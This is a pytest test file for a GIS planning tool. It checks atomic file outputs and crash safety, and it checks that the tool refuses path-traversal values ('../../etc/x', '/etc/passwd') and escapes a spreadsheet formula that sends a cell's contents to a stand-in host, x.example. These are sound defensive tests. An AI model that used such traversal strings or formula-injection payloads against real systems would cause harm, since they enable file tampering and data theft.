"""Outputs are whole or absent, and values of the store never name a file outside the output folder."""
from __future__ import annotations

import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from plhgis import edits, io, outputs, reports
from plhgis.errors import PlhgisError
from plhgis.store import GeoPackageStore

ROOT = Path(__file__).resolve().parents[1]


# -- atomic outputs ------------------------------------------------------------------------------------
def test_a_failed_write_leaves_nothing_under_the_final_name(tmp_path):
    path = tmp_path / "out.csv"
    with pytest.raises(RuntimeError):
        with outputs.atomic_output(path) as tmp:
            tmp.write_text("half a fi")
            raise RuntimeError("killed")
    assert list(tmp_path.iterdir()) == []
    path.write_text("old")
    with pytest.raises(RuntimeError):
        with outputs.atomic_output(path, overwrite=True) as tmp:
            tmp.write_text("new but half")
            raise RuntimeError("killed")
    assert path.read_text() == "old" and list(tmp_path.iterdir()) == [path]


def test_a_stale_temporary_file_blocks_nothing(tmp_path):
    stale = tmp_path / ".out.tmp-0123456789ab.csv"  # left by a run killed with -9
    stale.write_text("half")
    outputs.write_text(tmp_path / "out.csv", "a;b\n")
    assert (tmp_path / "out.csv").read_text() == "a;b\n"
    with pytest.raises(PlhgisError, match="already exists"):
        outputs.write_text(tmp_path / "out.csv", "again")


def test_export_killed_while_saving_keeps_the_old_file(demo_store, tmp_path, monkeypatch):
    out = tmp_path / "out"
    path = out / "projets.xlsx"
    io.export_frame(demo_store.read("projects"), path)
    before = path.read_bytes()

    def dies_half_way(book, filename):
        Path(filename).write_bytes(b"PK\x03\x04 half a zip")
        raise KeyboardInterrupt

    monkeypatch.setattr(openpyxl.Workbook, "save", dies_half_way)
    with pytest.raises(KeyboardInterrupt):
        io.export_frame(demo_store.read("projects"), path, overwrite=True)
    with pytest.raises(KeyboardInterrupt):
        io.export_frame(demo_store.read("projects"), out / "new.xlsx")
    assert path.read_bytes() == before and not (out / "new.xlsx").exists()
    assert [p.name for p in out.iterdir()] == ["projets.xlsx"]


def test_init_overwrite_killed_half_way_keeps_the_old_store(demo_path, monkeypatch):
    from plhgis import store as store_mod

    before = demo_path.read_bytes()

    def dies_half_way(path, crs, layers):
        Path(path).write_bytes(b"SQLite format 3\x00 half")
        raise KeyboardInterrupt

    monkeypatch.setattr(store_mod, "_create_layers", dies_half_way)
    with pytest.raises(KeyboardInterrupt):
        GeoPackageStore.create(demo_path, overwrite=True)
    assert demo_path.read_bytes() == before
    assert [p.name for p in demo_path.parent.iterdir()] == [demo_path.name]


def test_shapefile_sidecars_follow_the_main_file(demo_store, tmp_path):
    io.export_frame(demo_store.read("communes"), tmp_path / "shp" / "communes.shp")
    assert {p.suffix for p in (tmp_path / "shp").iterdir()} >= {".shp", ".shx", ".dbf", ".prj"}
    assert not [p for p in (tmp_path / "shp").iterdir() if outputs.TMP_MARK in p.name]
    assert len(gpd.read_file(tmp_path / "shp" / "communes.shp")) == 12


def test_unwritable_output_is_a_clear_error(invoke, demo_path, tmp_path):
    locked = tmp_path / "locked"
    locked.write_text("a file, not a folder")
    result = invoke("export", "projects", locked / "p.csv", "--store", demo_path)
    assert result.exit_code == 1 and "cannot write the file" in result.output and "Traceback" not in result.output


def _complete(path: Path) -> None:
    """Raise unless the output under its final name is whole."""
    if path.suffix == ".xlsx":
        openpyxl.load_workbook(path).close()
    elif path.suffix == ".html":
        assert path.read_text(encoding="utf-8").rstrip().endswith("</html>"), path
    elif path.suffix == ".gpkg":
        assert len(gpd.read_file(path)) > 0
    elif path.suffix == ".csv":
        assert len(pd.read_csv(path, sep=";", encoding="utf-8-sig")) > 0


def _cli(*args):
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return [sys.executable, "-m", "plhgis", *map(str, args)], env


@pytest.mark.parametrize("command", ["pack", "export"])
def test_kill_9_at_random_points_leaves_no_partial_output(demo_path, tmp_path, command):
    """6 runs killed at a random moment: what is there is whole, and the next run succeeds."""
    out = tmp_path / "out"
    rng = random.Random(8)
    if command == "pack":
        args = ("pack", "--all", "-o", out, "--store", demo_path, "--overwrite")
    else:
        args = ("export", "projects", out / "projets.{}", "--store", demo_path, "--overwrite")
    cmd, env = _cli(*(str(a).format("gpkg") for a in args))
    start = time.monotonic()  # a whole run, to spread the kills over its length on this machine
    subprocess.run(cmd, env=env, capture_output=True, timeout=120, check=True)
    whole = time.monotonic() - start
    for trial in range(6):
        suffix = ("gpkg", "csv", "xlsx")[trial % 3]
        cmd, env = _cli(*(str(a).format(suffix) for a in args))
        proc = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(rng.uniform(0.5, 1.0) * whole)
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=60)
        for path in out.glob("*") if out.exists() else ():
            if not path.name.startswith("."):  # temporary files are hidden and harmless
                _complete(path)
    cmd, env = _cli(*(str(a).format("xlsx") for a in args))
    done = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    for path in out.glob("*"):
        if not path.name.startswith("."):
            _complete(path)


# -- values of the store as file names ------------------------------------------------------------------
def test_outputs_inside_refuses_a_name_that_leaves_the_folder(tmp_path):
    assert outputs.inside(tmp_path, "62950-dossier.html") == tmp_path / "62950-dossier.html"
    for name in ("../x.html", "../../etc/x-dossier.html", "/etc/passwd", "a/b.html", "..", ""):
        with pytest.raises(PlhgisError, match="would leave the output folder"):
            outputs.inside(tmp_path, name)


def _spoil_commune_code(demo_path, code="../../evil"):
    store = GeoPackageStore(demo_path)
    with store.con as con:  # as QGIS or a script would: no plhgis check on the way
        con.execute("UPDATE communes SET insee = ? WHERE insee = '62950'", [code])
    store.close()


def test_map_default_output_stays_in_maps(invoke, demo_path, tmp_path, monkeypatch):
    _spoil_commune_code(demo_path)
    monkeypatch.chdir(tmp_path)
    result = invoke("map", "--commune", "../../evil", "--store", demo_path)
    assert result.exit_code == 1 and "would leave the output folder" in result.output
    assert list(tmp_path.parent.glob("evil*")) == [] and not (tmp_path / "maps").exists()


def test_pack_refuses_a_commune_code_edited_in_by_another_tool(invoke, demo_path, tmp_path):
    _spoil_commune_code(demo_path)
    out = tmp_path / "a" / "b" / "out"
    result = invoke("pack", "--all", "-o", out, "--store", demo_path)
    assert result.exit_code == 1, result.output
    assert "not an INSEE code" in result.output and "'../../evil'" in result.output
    assert "Traceback" not in result.output
    assert not out.exists() and not (tmp_path / "a" / "evil-dossier.html").exists()
    assert list(tmp_path.rglob("*dossier*")) == []
    with GeoPackageStore(demo_path) as store, pytest.raises(PlhgisError, match="not an INSEE code"):
        reports.write_pack(store, "../../evil", out)


@pytest.mark.parametrize("layer, key, value", [
    ("projects", "id", "../../etc/x"), ("projects", "id", "P-62950-12/../x"), ("projects", "id", "X-1"),
    ("plots", "id", "../g"), ("friches", "site_id", "../../etc/x"), ("sectors", "id", "a/b"),
])
def test_ids_that_are_no_ids_are_refused(demo_store, layer, key, value):
    frame = demo_store.read(layer).head(1).copy()
    frame[key] = value
    with pytest.raises(PlhgisError) as err:
        edits.plan_rows(demo_store, layer, frame, file="retour.csv")
    assert f"field '{key}'" in str(err.value) and "badly formed value" in str(err.value)
    assert repr(value) in str(err.value)


def test_import_refuses_a_path_as_scheme_id(invoke, demo_path, tmp_path):
    path = tmp_path / "retour.csv"
    path.write_text("id;name;commune;homes_total;status\n../../etc/x;Les Tilleuls;62950;12;études\n",
                    encoding="utf-8")
    result = invoke("import", "projects", path, "--store", demo_path)
    assert result.exit_code == 1
    assert ("retour.csv, row 2, field 'id', value '../../etc/x': badly formed value (hint: plhgis names "
            "schemes P-<insee>-<seq>") in result.output
    ok = tmp_path / "ok.csv"
    ok.write_text("id;name;commune;homes_total;status\nP-62950-0900;Les Tilleuls;62950;12;études\n",
                  encoding="utf-8")
    assert invoke("import", "projects", ok, "--store", demo_path).exit_code == 0


# -- list --format csv ----------------------------------------------------------------------------------
@pytest.mark.parametrize("noun, layer, field", [("project", "projects", "name"), ("plot", "plots", "comment"),
                                                ("friche", "friches", "site_nom")])
def test_list_csv_keeps_formulas_as_text(invoke, demo_store, demo_path, noun, layer, field):
    lay_key = "site_id" if layer == "friches" else "id"
    fid = demo_store.read(layer)[lay_key].iloc[0]
    formula = '=HYPERLINK("http://x.example/?"&A1,"clic")'
    edits.edit(demo_store, layer, fid, {field: formula})
    result = invoke(noun, "list", "--store", demo_path, "--format", "csv")
    assert result.exit_code == 0
    assert "'" + formula.replace('"', '""') in result.output
    assert not any(cell.strip('"').startswith("=") for line in result.output.splitlines()
                   for cell in line.split(";"))
